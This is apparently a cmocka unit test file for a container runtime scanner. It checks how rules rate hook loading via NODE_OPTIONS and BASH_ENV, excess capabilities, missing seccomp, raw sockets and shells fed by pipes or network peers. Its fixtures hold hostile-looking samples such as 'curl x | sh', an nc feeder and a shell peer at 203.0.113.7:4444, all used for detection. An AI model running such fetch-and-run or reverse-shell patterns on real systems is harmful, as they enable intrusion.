/* SPDX-License-Identifier: Apache-2.0 */
/* Findings of processes by tables that are made: what counts, how severe, and what is explained. */
#include "unit/cmocka_all.h"

#include <stdlib.h>
#include <string.h>

#include <strandline/settings.h>

#include "core/cleanup.h"
#include "core/json.h"
#include "job/procpart.h"

static char exe_path[] = "/usr/bin/node", lead_path[] = "/x/hook", command[] = "node";

struct fixture {
	struct meaning_request request;
	struct sl_container *container;
	struct comparison comparison;
	struct meaning meaning;
	struct procpart part;
	enum procpart_bytes bytes[2];
	struct sl_object objects[2];
	struct sl_process_lead lead;
	struct sl_process process;
};

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));
	static const char config[] = "{\"config\":{\"Env\":[\"BASH_ENV=/x/"
				     "hook\"],\"Cmd\":[\"sh\",\"-c\",\"curl x | sh\"],"
				     "\"Healthcheck\":{\"Test\":[\"CMD-SHELL\",\"/x/run && . "
				     "/x/hook\"]}}}";

	assert_int_equal(sl_container_new(&f->container, NULL), 0);
	assert_int_equal(sl_settings_new(&f->container->settings, NULL), 0);
	f->comparison.container = f->container;
	f->meaning.request = &f->request;
	f->meaning.comparison = &f->comparison;
	f->part.meaning = &f->meaning;
	f->part.image.comparison = &f->comparison;
	f->part.bytes = f->bytes;
	f->part.others = calloc(PROCPART_FINDINGS_MAX, sizeof(*f->part.others));
	f->part.processes.objects = f->objects;
	f->part.processes.object_count = 2;
	assert_int_equal(jval_parse(&f->part.config, config, sizeof(config) - 1, NULL), 0);
	f->bytes[1] = BYTES_OTHER;
	f->objects[0] = (struct sl_object){.origin = SL_ORIGIN_IMAGE, .path = exe_path, .fd = -1};
	f->objects[1] = (struct sl_object){.origin = SL_ORIGIN_UPPER, .path = lead_path, .fd = -1};
	f->lead = (struct sl_process_lead){.by = "NODE_OPTIONS", .path = lead_path, .object = 1};
	f->process = (struct sl_process){.pid = 9,
					 .place = SL_PLACE_MOUNTS | SL_PLACE_CGROUP | SL_PLACE_PID,
					 .script = SL_OBJECT_NONE,
					 .cwd = SL_OBJECT_NONE,
					 .command = command,
					 .leads = &f->lead,
					 .seccomp = 2,
					 .no_new_privs = 1};
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	for (size_t i = 0; i < f->part.text_count; i++)
		free(f->part.texts[i]);
	free(f->part.texts);
	free(f->part.others);
	jval_free(f->part.config);
	imagebytes_clear(&f->part.image);
	free(f->meaning.findings);
	sl_container_free(f->container);
	free(f);
	return 0;
}

/* The only finding so far is of this rule; "" of none. Forgets it. */
static void found(struct fixture *f, const char *rule, enum sl_severity severity,
		  const char *subject)
{
	const struct sl_finding *only = f->meaning.findings;

	if (f->meaning.finding_count != (rule[0] != '\0'))
		fail_msg("%zu findings, the first %s, not %s", f->meaning.finding_count,
			 f->meaning.finding_count > 0 ? only->rules[0] : "", rule);
	if (rule[0] == '\0')
		return;
	assert_string_equal(only->rules[0], rule);
	assert_int_equal(only->severity, severity);
	assert_string_equal(only->subject.data, subject);
	f->meaning.finding_count = 0;
}

static void judge_loads(struct fixture *f)
{
	f->process.lead_count = 1;
	assert_int_equal(procpart_judge_loads(&f->part, &f->process, NULL), 0);
}

static const struct {
	enum sl_origin origin;
	bool is_readonly, is_directory, is_option, is_gone;
	const char *rule;
	enum sl_severity severity;
} loads[] = {
	{SL_ORIGIN_IMAGE, false, false, false, false, "", SL_SEVERITY_INFO},
	{SL_ORIGIN_IMAGE, false, true, false, false, "", SL_SEVERITY_INFO},
	{SL_ORIGIN_UPPER, false, false, false, false, "loads-not-in-image", SL_SEVERITY_HIGH},
	{SL_ORIGIN_TMPFS, false, false, true, false, "loads-not-in-image", SL_SEVERITY_HIGH},
	{SL_ORIGIN_MOUNT, false, false, false, false, "loads-from-volume", SL_SEVERITY_MEDIUM},
	{SL_ORIGIN_MOUNT, true, false, false, false, "loads-from-readonly-volume",
	 SL_SEVERITY_INFO},
	{SL_ORIGIN_TMPFS, false, true, false, false, "searches-not-in-image", SL_SEVERITY_MEDIUM},
	{SL_ORIGIN_MOUNT, false, true, false, false, "searches-volume", SL_SEVERITY_LOW},
	{SL_ORIGIN_MOUNT, true, true, false, false, "searches-readonly-volume", SL_SEVERITY_INFO},
	{SL_ORIGIN_IMAGE, false, false, false, true, "loads-missing", SL_SEVERITY_LOW},
	{SL_ORIGIN_IMAGE, false, false, true, true, "loads-deleted", SL_SEVERITY_HIGH},
};

static void code_that_is_led_to_counts_by_where_it_lies(void **state)
{
	struct fixture *f = *state;
	char variable[] = "NODE_OPTIONS=-r /x/hook";

	for (size_t i = 0; i < ARRAY_SIZE(loads); i++) {
		f->objects[1].origin = loads[i].origin;
		f->objects[1].is_readonly = loads[i].is_readonly;
		f->lead.is_directory = loads[i].is_directory;
		f->lead.variable = loads[i].is_option ? NULL : variable;
		f->lead.object = loads[i].is_gone ? SL_OBJECT_NONE : 1;
		judge_loads(f);
		found(f, loads[i].rule, loads[i].severity, "/x/hook (NODE_OPTIONS)");
	}
}

static void a_directory_for_everyone_counts_though_the_image_has_it(void **state)
{
	static char temporary[] = "/var/tmp", other[] = "/var/lib";
	struct fixture *f = *state;

	f->objects[1].origin = SL_ORIGIN_IMAGE;
	f->lead.is_directory = true;
	f->lead.path = f->objects[1].path = temporary;
	judge_loads(f);
	found(f, "searches-not-in-image", SL_SEVERITY_MEDIUM, "/var/tmp (NODE_OPTIONS)");
	f->lead.path = f->objects[1].path = other;
	judge_loads(f);
	found(f, "", SL_SEVERITY_INFO, "");
}

static void code_in_arguments_that_runs_a_file_counts_unless_it_was_given(void **state)
{
	struct fixture *f = *state;
	char own[] = "/bin/sh -c . /x/hook; sleep 1", told[] = "/bin/sh -c /x/run && . /x/hook";

	f->lead.is_code = true;
	f->lead.by = "code in its arguments";
	f->lead.variable = NULL;
	f->process.code = own;
	judge_loads(f);
	found(f, "code-loads-not-in-image", SL_SEVERITY_MEDIUM, "/x/hook (code in its arguments)");
	f->process.code = told; /* of the image's own command */
	judge_loads(f);
	found(f, "", SL_SEVERITY_INFO, "");
	f->process.code = NULL;
	f->lead.is_code = false;
}

static void what_was_configured_is_no_finding(void **state)
{
	struct fixture *f = *state;
	char own[] = "BASH_ENV=/x/hook", other[] = "BASH_ENV=/x/hook2", told[] = "ENV=/x/hook";

	f->lead.by = "BASH_ENV";
	f->lead.variable = own;
	judge_loads(f);
	found(f, "", SL_SEVERITY_INFO, "");
	f->lead.variable = other;
	judge_loads(f);
	found(f, "loads-not-in-image", SL_SEVERITY_HIGH, "/x/hook (BASH_ENV)");
	f->container->settings->code_variables = calloc(1, sizeof(char *));
	f->container->settings->code_variables[0] = strdup("ENV=/x/hook");
	f->container->settings->code_variable_count = 1;
	f->lead.variable = told;
	judge_loads(f);
	found(f, "", SL_SEVERITY_INFO, "");
	assert_string_equal(procpart_configured(&f->part, own), "image-environment");
	assert_string_equal(procpart_configured(&f->part, told), "container-environment");
	assert_null(procpart_configured(&f->part, other));
}

static void judge_confined(struct fixture *f)
{
	assert_int_equal(procpart_judge_confined(&f->part, &f->process, NULL), 0);
}

static void rights_beyond_the_containers_are_found(void **state)
{
	struct fixture *f = *state;
	struct sl_settings *s = f->container->settings;

	judge_confined(f);
	found(f, "", SL_SEVERITY_INFO, ""); /* nothing is known of the container */
	assert_int_equal(sl_settings_add(s, SL_SETTING_LIVE_CAPABILITIES, "CHOWN", NULL), 0);
	assert_int_equal(sl_settings_text(s, SL_SETTING_SECCOMP, "default", NULL), 0);
	assert_int_equal(sl_settings_text(s, SL_SETTING_LIVE_SECCOMP, "filter", NULL), 0);
	assert_int_equal(sl_settings_flag(s, SL_SETTING_NO_NEW_PRIVS, true, NULL), 0);
	f->process.has_caps = true;
	f->process.caps = 1; /* chown */
	judge_confined(f);
	found(f, "", SL_SEVERITY_INFO, "");
	f->process.caps = 1 | 1 << 21;
	judge_confined(f);
	found(f, "capabilities-beyond-container", SL_SEVERITY_HIGH, "/usr/bin/node (sys_admin)");
	f->process.has_own_users = true; /* they count in there alone */
	judge_confined(f);
	found(f, "own-user-namespace", SL_SEVERITY_INFO, "/usr/bin/node (own user namespace)");
	f->process.has_own_users = false;
	f->process.place |= SL_PLACE_NO_CGROUP; /* found for that */
	judge_confined(f);
	found(f, "", SL_SEVERITY_INFO, "");
	f->process.place &= ~(uint32_t)SL_PLACE_NO_CGROUP;
	f->process.caps = 0;
	f->process.seccomp = 0;
	judge_confined(f);
	found(f, "seccomp-missing", SL_SEVERITY_MEDIUM, "/usr/bin/node (no seccomp)");
	assert_int_equal(sl_settings_text(s, SL_SETTING_SECCOMP, "unconfined", NULL), 0);
	judge_confined(f);
	found(f, "", SL_SEVERITY_INFO, "");
	f->process.no_new_privs = 0;
	judge_confined(f);
	found(f, "new-privileges-possible", SL_SEVERITY_MEDIUM, "/usr/bin/node (new privileges)");
	f->process.no_new_privs = -1;
	judge_confined(f);
	found(f, "", SL_SEVERITY_INFO, "");
}

static void sockets_count_by_what_they_see(void **state)
{
	struct fixture *f = *state;

	f->process.sockets = SL_SOCKET_PACKET;
	judge_confined(f);
	found(f, "packet-socket", SL_SEVERITY_MEDIUM, "/usr/bin/node (packet socket)");
	f->process.sockets = SL_SOCKET_RAW;
	judge_confined(f);
	found(f, "raw-socket", SL_SEVERITY_LOW, "/usr/bin/node (raw socket)");
	f->process.sockets = SL_SOCKET_RAW_OTHER;
	judge_confined(f);
	found(f, "raw-socket-other", SL_SEVERITY_INFO, "/usr/bin/node (raw socket)");
}

static void judge_orders(struct fixture *f)
{
	assert_int_equal(procpart_judge_orders(&f->part, &f->process, NULL), 0);
}

static void who_commands_a_shell_counts_by_who_it_is(void **state)
{
	char relay[] = "nc";
	struct fixture *f = *state;
	char pipe[] = "pipe:[1]", sleep[] = "sleep", beam[] = "beam.smp", php[] = "php-fpm";
	char address[] = "203.0.113.7:4444";
	struct sl_process parent = {.pid = 7, .script = 0};

	f->process.pipe = pipe;
	judge_orders(f);
	found(f, "shell-fed-by-pipe", SL_SEVERITY_MEDIUM, "/usr/bin/node (a pipe)");
	f->process.feeder = sleep;
	judge_orders(f);
	found(f, "shell-fed-by-pipe", SL_SEVERITY_MEDIUM, "/usr/bin/node (sleep)");
	f->process.feeder_peer = address;
	judge_orders(f);
	found(f, "shell-fed-from-network", SL_SEVERITY_HIGH, "/usr/bin/node (203.0.113.7:4444)");
	f->process.feeder_peer = NULL;
	f->process.parent = 7;
	f->part.processes.items = &parent;
	f->part.processes.count = 1;
	judge_orders(f);
	found(f, "shell-fed-by-image", SL_SEVERITY_INFO, "/usr/bin/node (sleep)");
	parent.script = 1; /* not the image's */
	judge_orders(f);
	found(f, "shell-fed-by-pipe", SL_SEVERITY_MEDIUM, "/usr/bin/node (sleep)");
	parent.script = SL_OBJECT_NONE;
	parent.code = sleep;
	judge_orders(f);
	found(f, "shell-fed-by-pipe", SL_SEVERITY_MEDIUM, "/usr/bin/node (sleep)");
	f->container->pid = 7;
	judge_orders(f);
	found(f, "shell-fed-by-image", SL_SEVERITY_INFO, "/usr/bin/node (sleep)");
	f->process.session = 9; /* taken in */
	judge_orders(f);
	found(f, "shell-fed-by-pipe", SL_SEVERITY_MEDIUM, "/usr/bin/node (sleep)");
	f->process.feeder = relay; /* that waits for a connection */
	judge_orders(f);
	found(f, "shell-fed-by-server", SL_SEVERITY_HIGH, "/usr/bin/node (nc)");
	f->process.is_fed_from_above = true;
	f->process.feeder = beam;
	judge_orders(f);
	found(f, "shell-fed-by-parent", SL_SEVERITY_INFO, "/usr/bin/node (beam.smp)");
	f->process.feeder = php;
	judge_orders(f);
	found(f, "shell-fed-by-server", SL_SEVERITY_HIGH, "/usr/bin/node (php-fpm)");
	f->process.peer = address;
	judge_orders(f);
	found(f, "shell-on-network", SL_SEVERITY_CRITICAL, "/usr/bin/node (203.0.113.7:4444)");
}

static void code_that_was_configured_is_explained(void **state)
{
	struct fixture *f = *state;
	char own[] = "sh -c curl x | sh", other[] = "sh -c curl y | sh";

	f->process.code = other;
	judge_orders(f);
	found(f, "runs-fetched-text", SL_SEVERITY_HIGH, "/usr/bin/node");
	f->process.code = own;
	judge_orders(f);
	assert_string_equal(f->meaning.findings[0].cause_name, "image-command");
	found(f, "runs-fetched-text", SL_SEVERITY_INFO, "/usr/bin/node");
}

static void names_and_places_count_only_for_programs_of_the_image(void **state)
{
	struct fixture *f = *state;
	char alias[] = "/usr/sbin/sshd";

	f->process.alias = alias;
	assert_int_equal(procpart_judge_conduct(&f->part, &f->process, NULL), 0);
	found(f, "named-like-another", SL_SEVERITY_MEDIUM, "/usr/bin/node (/usr/sbin/sshd)");
	f->process.exe = 1;
	assert_int_equal(procpart_judge_conduct(&f->part, &f->process, NULL), 0);
	found(f, "", SL_SEVERITY_INFO, "");
	f->process.exe = 0;
	f->process.alias = NULL;
	f->process.cwd = 1;
	assert_int_equal(procpart_judge_conduct(&f->part, &f->process, NULL), 0);
	found(f, "working-directory-deleted", SL_SEVERITY_LOW, "/usr/bin/node (/x/hook)");
	f->objects[1].origin = SL_ORIGIN_MOUNT;
	assert_int_equal(procpart_judge_conduct(&f->part, &f->process, NULL), 0);
	found(f, "", SL_SEVERITY_INFO, "");
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(code_that_is_led_to_counts_by_where_it_lies),
		TEST(a_directory_for_everyone_counts_though_the_image_has_it),
		TEST(code_in_arguments_that_runs_a_file_counts_unless_it_was_given),
		TEST(what_was_configured_is_no_finding),
		TEST(rights_beyond_the_containers_are_found),
		TEST(sockets_count_by_what_they_see),
		TEST(who_commands_a_shell_counts_by_who_it_is),
		TEST(code_that_was_configured_is_explained),
		TEST(names_and_places_count_only_for_programs_of_the_image),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
